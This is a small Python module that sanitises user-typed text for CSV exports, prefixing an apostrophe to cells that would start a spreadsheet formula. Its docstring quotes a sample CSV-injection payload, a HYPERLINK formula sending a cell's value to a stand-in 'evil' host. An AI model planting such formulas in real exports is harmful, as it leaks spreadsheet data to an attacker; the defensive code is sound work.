"""Text that people typed, written to a CSV file a spreadsheet will open.

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) is a formula to Excel, LibreOffice and Google Sheets: a contact named
`=HYPERLINK("http://evil/?"&A1,"Xem")` in an export would run in the marketer's
spreadsheet (CSV injection). As OWASP advises, such a cell gets a leading
apostrophe, which the spreadsheet shows as text and hides.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """`value` as a CSV cell: text that would start a formula gets a leading
    apostrophe; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
